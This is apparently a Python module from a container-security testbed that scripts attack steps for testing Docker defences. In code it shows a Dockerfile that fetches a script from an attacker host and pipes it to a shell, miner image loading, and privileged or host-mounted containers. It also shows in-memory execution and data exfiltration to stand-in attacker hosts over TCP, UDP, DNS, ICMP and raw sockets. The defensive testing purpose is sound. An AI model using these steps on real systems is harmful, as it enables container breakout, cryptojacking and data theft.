"""The steps of the attack: build on the host, bring an image, break out, break in."""

import json
from functools import partial
from typing import Any, Final

from docker.models.containers import Container

from testbed import images
from testbed.attack import Attack, Step
from testbed.servers import EVIL_DOMAIN, POOL_PORT, TCP_PORTS, UDP_PORT
from testbed.shop import CHECKOUT, GATEWAY, NEIGHBOUR, REDIS_PORT
from testbed.world import ATTACKER, ATTACKER6, RESOLVER

GUARD: Final = "guard"
GATE: Final = "scan gate"
EGRESS: Final = "kernel egress"
DRIFT: Final = "kernel drift"

_LOGIN: Final = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"x"}}\n'
_BASE: Final = "alpine-like/base:1"
_EXPERIMENTAL: Final = 253
"""An IP protocol for experiments: RFC 3692."""

_DROPPED: Final = "/tmp/dropped"
_LIBRARY: Final = "/tmp/library.so"


def _build(attack: Attack, *, version: str) -> str:
    dockerfile = f"FROM {_BASE}\nRUN timeout 5 wget -q -O- http://{ATTACKER}/x.sh | sh\n"
    answer = attack.client.api.post(
        f"{attack.client.api.base_url}/v1.41/build",
        params={"version": version, "t": "evil/built:1", "nocache": "1"},
        data=images.archive({"Dockerfile": dockerfile.encode()}),
        headers={"Content-Type": "application/x-tar"},
    )
    lines = [json.loads(line) for line in answer.text.splitlines() if line.strip()]
    said = [line.get("error") or line.get("stream") or line.get("message") or "" for line in lines]
    return next((line for line in reversed(said) if line.strip()), "built")


def _run(attack: Attack, image: str, **settings: Any) -> str:
    container: Container = attack.client.containers.run(image, detach=True, **settings)
    return f"started {container.short_id}"


def _load(attack: Attack) -> str:
    attack.client.images.load(images.miner(ATTACKER, POOL_PORT).archive)
    return _run(attack, "evil/miner:1")


def _import(attack: Attack) -> str:
    files = {"usr/bin/xmrig": images.program("miner")}
    attack.client.api.import_image_from_data(images.archive(files, executable=tuple(files)), repository="evil/imported")
    return _run(attack, "evil/imported", command=["/usr/bin/xmrig", ATTACKER, str(POOL_PORT)])


def _commit(attack: Attack) -> str:
    container = attack.client.containers.create(_BASE)
    files = {"usr/bin/xmrig": images.program("miner")}
    container.put_archive("/", images.archive(files, executable=tuple(files)))
    container.commit(repository="evil/committed")
    return _run(attack, "evil/committed", command=["/usr/bin/xmrig", ATTACKER, str(POOL_PORT)])


def _quiet(attack: Attack) -> str:
    attack.client.images.load(images.quiet(ATTACKER, TCP_PORTS[0]).archive)
    return _run(attack, "evil/quiet:1")


def _create(attack: Attack, **settings: Any) -> str:
    return str(attack.client.containers.create(_BASE, ["sleep", "60"], **settings).id)


def _exists_with(attack: Attack, *path: str, value: object) -> bool:
    """Whether a container of the base has this value, or a list with it, at a path of its description."""
    owner = attack.world.engine.client()
    created = [container.attrs for container in owner.containers.list(all=True, filters={"ancestor": _BASE})]
    owner.close()
    return any(_holds(container, *path, value=value) for container in created)


def _holds(found: Any, *path: str, value: object) -> bool:
    for key in path:
        found = found[key]
    return bool(found == value or (isinstance(found, list) and value in found))


def _drop(attack: Attack) -> str:
    """Return after bringing the program and the library into the honest container."""
    files = {"dropped": images.program("marker"), "library.so": images.program("library")}
    attack.shop_container.put_archive("/tmp", images.archive(files, executable=tuple(files)))
    return _DROPPED


def _marker(name: str) -> str:
    return f"/tmp/marker-{name}"


def _marked(attack: Attack, name: str) -> bool:
    marker = attack.shop.path(_marker(name))
    exists = marker.exists()
    marker.unlink(missing_ok=True)
    return exists


def _packet(attack: Attack, source: str, to: str) -> str:
    return attack.execute("probe", "packet", CHECKOUT, GATEWAY, source, to, str(UDP_PORT), "stolen")


def _of_build() -> tuple[Step, ...]:
    return tuple(
        Step(
            name,
            f"build on the host, {title}: RUN fetches and runs a script",
            partial(_build, version=version),
            lambda attack, _: attack.saw("http", "/stage-two"),
            GUARD,
        )
        for name, title, version in (("a1", "classic builder", "1"), ("a2", "BuildKit", "2"))
    )


def _of_images() -> tuple[Step, ...]:
    miners = (("b1", "load", _load), ("b2", "import", _import), ("b3", "commit", _commit))
    return (
        *(
            Step(
                name,
                f"{title} a miner's image, create, start",
                act,
                lambda attack, _: attack.saw("pool"),
                GATE,
            )
            for name, title, act in miners
        ),
        Step(
            "b4",
            "load an image in which nothing can be found; it phones home",
            _quiet,
            lambda attack, _: attack.saw("tcp", "quiet"),
            EGRESS,
        ),
    )


def _of_containers(socket: str) -> tuple[Step, ...]:
    def step(name: str, title: str, path: tuple[str, ...], value: object, **settings: Any) -> Step:
        return Step(
            name,
            f"create a container with {title}",
            lambda attack: _create(attack, **settings),
            lambda attack, _: _exists_with(attack, "HostConfig", *path, value=value),
            GUARD,
        )

    return (
        step("c1", "all privileges", ("Privileged",), value=True, privileged=True),
        step("c2", "the host's root", ("Binds",), "/:/host", volumes=["/:/host"]),
        step("c3", "the engine's socket", ("Binds",), f"{socket}:/s.sock", volumes=[f"{socket}:/s.sock"]),
        step("c4", "the host's network", ("NetworkMode",), "host", network_mode="host"),
        step("c5", "the host's processes", ("PidMode",), "host", pid_mode="host"),
    )


def _of_dropping() -> tuple[Step, ...]:
    return (
        Step(
            "d1",
            "break in, bring a program, run it",
            lambda attack: attack.execute(_drop(attack), _marker("file")),
            lambda attack, _: _marked(attack, "file"),
            DRIFT,
        ),
        Step(
            "d2",
            "run a program from memory",
            lambda attack: attack.execute("probe", "memory", _drop(attack), _marker("memory")),
            lambda attack, _: _marked(attack, "memory"),
            DRIFT,
        ),
        Step(
            "d3",
            "bring a library, load it",
            lambda attack: attack.execute("probe", "library", _drop(attack) and _LIBRARY, _marker("library")),
            lambda attack, _: _marked(attack, "library"),
            DRIFT,
        ),
    )


def _of_sending() -> tuple[Step, ...]:
    def step(name: str, title: str, protocol: str, version: int, *command: str) -> Step:
        return Step(
            name,
            title,
            lambda attack: attack.execute("probe", *command),
            lambda attack, _: attack.saw_frame(protocol, version),
            EGRESS,
        )

    both = ((4, ATTACKER), (6, ATTACKER6))
    tcp, udp, raw = str(TCP_PORTS[0]), str(UDP_PORT), str(_EXPERIMENTAL)
    return (
        Step(
            "d4",
            "log in to a mining pool",
            lambda attack: attack.execute("probe", "tcp", ATTACKER, str(POOL_PORT), _LOGIN),
            lambda attack, _: attack.saw("pool"),
            EGRESS,
        ),
        Step(
            "d5",
            "scan the neighbours",
            lambda attack: attack.execute("probe", "scan", GATEWAY[:-1], str(REDIS_PORT)),
            lambda _, received: f"{NEIGHBOUR}:" in received,
            EGRESS,
        ),
        *(step(f"d6.{v}", f"send data out, TCP over IPv{v}", "tcp", v, "tcp", to, tcp, "stolen") for v, to in both),
        *(step(f"d7.{v}", f"send data out, UDP over IPv{v}", "udp", v, "udp", to, udp, "stolen") for v, to in both),
        *(
            step(f"d8.{v}", f"send data out, DNS over IPv{v}", "udp", v, "dns", to, f"stolen.{EVIL_DOMAIN}")
            for v, to in both
        ),
        step("d9.1", "... DNS through the network's resolver", "udp", 4, "dns", RESOLVER, f"tunnel1.{EVIL_DOMAIN}"),
        step("d9.2", "... DNS through the engine's resolver", "udp", 4, "dns", "127.0.0.11", f"tunnel2.{EVIL_DOMAIN}"),
        *(step(f"d10.{v}", f"send data out, ICMP over IPv{v}", "icmp", v, "icmp", to, "stolen") for v, to in both),
        *(step(f"d11.{v}", f"send data out, raw IPv{v}", "raw", v, "raw", to, raw, "stolen") for v, to in both),
        Step(
            "d12.4",
            "send data out, packet socket, IPv4",
            lambda attack: _packet(attack, CHECKOUT, ATTACKER),
            lambda attack, _: attack.saw_frame("udp", 4),
            EGRESS,
        ),
        Step(
            "d12.6",
            "send data out, packet socket, IPv6",
            lambda attack: _packet(attack, attack.shop.address6, ATTACKER6),
            lambda attack, _: attack.saw_frame("udp", 6),
            EGRESS,
        ),
    )


def steps(socket: str) -> tuple[Step, ...]:
    """Return all steps, in the order of the story.

    :param socket: the path of the engine's socket on the host
    """
    return (*_of_build(), *_of_images(), *_of_containers(socket), *_of_dropping(), *_of_sending())
